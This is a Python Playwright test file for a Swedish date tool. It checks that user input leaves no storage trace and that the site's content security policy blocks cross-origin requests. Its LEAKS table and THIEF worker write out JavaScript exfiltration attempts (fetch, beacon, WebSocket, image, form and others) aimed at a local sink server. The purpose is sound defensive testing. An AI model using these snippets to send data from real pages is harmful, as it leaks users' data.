"""What is typed stays in the tab. Not promised: tried."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import TOOL
from tools.build import finish

MARK = "1987-06-05"  # a day that stands nowhere on the site


@pytest.fixture
def sink() -> Iterator[tuple[str, list[str]]]:
    """Another origin, which must hear nothing."""
    heard: list[str] = []

    class Listen(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET
        do_OPTIONS = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listen)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", heard
    server.shutdown()


def test_no_request_and_no_trace_after_load(tool: Page, base_url: str) -> None:
    requests: list[str] = []
    spoken: list[str] = []
    tool.on("request", lambda request: requests.append(request.url))
    tool.on("console", lambda message: spoken.append(message.text))
    tool.get_by_label("Från och med").fill(MARK)
    tool.get_by_label("Till och med").fill("+400d")
    expect(tool.locator("[data-code=before-first-rule]")).to_be_visible()
    tool.get_by_label("Till och med").fill("nonsens")
    tool.get_by_label("Till och med").press("Enter")
    expect(tool.locator(".faults:visible")).to_be_visible()
    tool.wait_for_timeout(300)
    foreign = [url for url in requests if not url.startswith("blob:")]
    assert foreign == []
    assert spoken == []
    assert tool.url == base_url + TOOL
    stored = tool.evaluate(
        """async () => JSON.stringify([
            {...localStorage}, {...sessionStorage}, document.cookie, history.state, document.title,
            (await indexedDB.databases()).map(database => database.name), await caches.keys(),
        ])"""
    )
    assert "1987" not in stored
    assert "nonsens" not in stored
    assert tool.evaluate("document.cookie + indexedDB.databases.length") is not None


def test_nothing_foreign_is_ever_loaded(page: Page, base_url: str) -> None:
    """Every page of the site, from start to rest: only its own origin, no word in the console."""
    asked: list[str] = []
    spoken: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: spoken.append(f"{message.type}: {message.text}"))
    page.on("pageerror", lambda error: spoken.append(str(error)))
    for path in ("", TOOL, "om/", "om/integritet/", "om/bidra/"):
        page.goto(base_url + path)
        page.wait_for_load_state("networkidle")
    assert asked
    assert {url for url in asked if not url.startswith((base_url, "blob:"))} == set()
    assert spoken == []


LEAKS = {
    "fetch": "fetch(SINK + 'fetch', {mode: 'no-cors'})",
    "xhr": "new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', SINK + 'xhr'); x.send(); })",
    "beacon": "navigator.sendBeacon(SINK + 'beacon', 'x')",
    "image": "new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = SINK + 'image'; })",
    "websocket": "new Promise(r => { const w = new WebSocket(SINK.replace('http', 'ws') + 'ws'); w.onclose = w.onerror = r; })",
    "event source": "new Promise(r => { const e = new EventSource(SINK + 'es'); e.onerror = () => { e.close(); r(); }; })",
    "import": "import(SINK + 'module.mjs')",
    "style": "new Promise(r => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = l.onerror = r; l.href = SINK + 'style'; document.head.append(l); })",
    "form": "new Promise(r => { const f = document.createElement('form'); f.action = SINK + 'form'; f.method = 'post'; document.body.append(f); f.submit(); setTimeout(r, 200); })",
}


@pytest.mark.parametrize("way", LEAKS)
def test_the_page_cannot_send_to_another_origin(
    page: Page, base_url: str, sink: tuple[str, list[str]], way: str
) -> None:
    address, heard = sink
    page.goto(base_url + TOOL)
    page.evaluate(
        f"async (SINK) => {{ try {{ await ({LEAKS[way]}); }} catch {{}} }}",
        address,
    )
    page.wait_for_timeout(150)
    assert heard == []


# What a worker tries; its own word of how it went comes back as a message.
THIEF = """
const tries = {
  fetch: () => fetch(SINK + 'fetch', {mode: 'no-cors'}),
  import: () => import(SINK + 'module.mjs'),
  socket: () => new Promise((r, no) => { const w = new WebSocket(SINK.replace('http', 'ws')); w.onopen = r; w.onerror = no; }),
  code: () => new Function('return 1')(),
};
const told = {};
for (const [name, attempt] of Object.entries(tries)) {
  try { await attempt(); told[name] = 'done'; } catch (error) { told[name] = 'refused'; }
}
postMessage(told);
"""


@pytest.mark.parametrize("layer", ["header and meta", "meta alone"])
def test_a_worker_started_as_ours_is_bound_by_the_policy(
    new_context: Any, base_url: str, sink: tuple[str, list[str]], layer: str
) -> None:
    address, heard = sink
    page = new_context().new_page()
    if layer == "meta alone":  # a server that sends no headers of ours

        def without_headers(route: Any) -> None:
            response = route.fetch()
            kept = {"content-type": response.headers["content-type"]}
            route.fulfill(status=response.status, headers=kept, body=response.body())

        page.route("**/*", without_headers)
    page.goto(base_url + TOOL)
    told = page.evaluate(
        """([code, sink]) => new Promise((resolve) => {
            const source = new Blob([`const SINK = ${JSON.stringify(sink)};` + code], {type: "text/javascript"});
            const worker = new Worker(URL.createObjectURL(source), {type: "module"});
            worker.onmessage = ({data}) => resolve(data);
        })""",
        [THIEF, address],
    )
    assert set(told.values()) == {"refused"}, told
    assert heard == []


def test_the_sink_would_hear(page: Page, sink: tuple[str, list[str]], base_url: str) -> None:
    """The tests above can fail: without a policy the same attempts get through."""
    address, heard = sink
    page.route(
        "**/plain", lambda route: route.fulfill(body="<p>plain</p>", content_type="text/html")
    )
    page.goto(base_url + "plain")
    for way in ("fetch", "image", "style"):
        page.evaluate(f"async (SINK) => {{ try {{ await ({LEAKS[way]}); }} catch {{}} }}", address)
    assert {"/fetch", "/image", "/style"} <= set(heard)


def test_python_finds_no_way_to_the_network(page: Page, base_url: str, site: Path) -> None:
    """A worker like ours, asked to answer for what its Python sees."""
    tools = next((site / "assets/tools").iterdir())
    worker = f"{base_url}assets/tools/{tools.name}/python-worker.mjs"
    page.route("**/python-worker.mjs", spying_worker)
    page.goto(base_url + TOOL)
    page.wait_for_selector("#milestone-tool[data-state=ready]", timeout=60_000)
    assert worker.startswith(base_url)
    seen = page.evaluate("window.seen ?? null")
    assert seen is None  # the page's own code shows nothing of it
    names = page.evaluate(
        """async (url) => {
            const {default: manifest} = await import(url.replace("python-worker", "manifest"));
            const source = new Blob([`import ${JSON.stringify(url + "?spy")};`], {type: "text/javascript"});
            const worker = new Worker(URL.createObjectURL(source), {type: "module"});
            return new Promise((resolve) => {
                worker.onmessage = ({data}) => { if (data.type === "spied") resolve(data.names); };
                worker.postMessage({type: "start", manifest, root: new URL("../../../", url).href});
            });
        }""",
        worker,
    )
    assert names == []


def spying_worker(route: Any) -> None:
    """Our worker with one line more: after the start, Python lists what it still could use."""
    response = route.fetch()
    spy = """
      const names = pyodide.runPython(`
import js
ways = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker",
        "BroadcastChannel", "indexedDB", "caches"]
[way for way in ways if getattr(js, way, None) is not None]
      `).toJs();
      scope.postMessage({type: "spied", names});
    """
    body = response.text().replace("closeTheWayOut();\n}", f"closeTheWayOut();{spy}}}", 1)
    assert "spied" in body
    route.fulfill(response=response, body=body)


def test_leaving_the_page_forgets(tool: Page, base_url: str) -> None:
    tool.get_by_label("Från och med").fill("260302")
    expect(tool.locator(".tool-result")).to_be_visible()
    tool.goto(base_url)
    tool.go_back()
    expect(tool.get_by_label("Från och med")).to_have_value("")
    expect(tool.locator("#milestone-tool")).to_have_attribute("data-state", "ready", timeout=60_000)
    tool.get_by_label("Från och med").fill("260401")
    expect(tool.locator("tr[data-id=chain_step_2] time")).to_have_attribute(
        "datetime", "2026-06-30"
    )


def test_the_policy_has_no_hole() -> None:
    policy = finish.content_policy(["'sha256-x'"])
    assert "unsafe-inline" not in policy
    assert "'unsafe-eval'" not in policy
    assert "default-src 'none'" in policy
    assert "*" not in policy
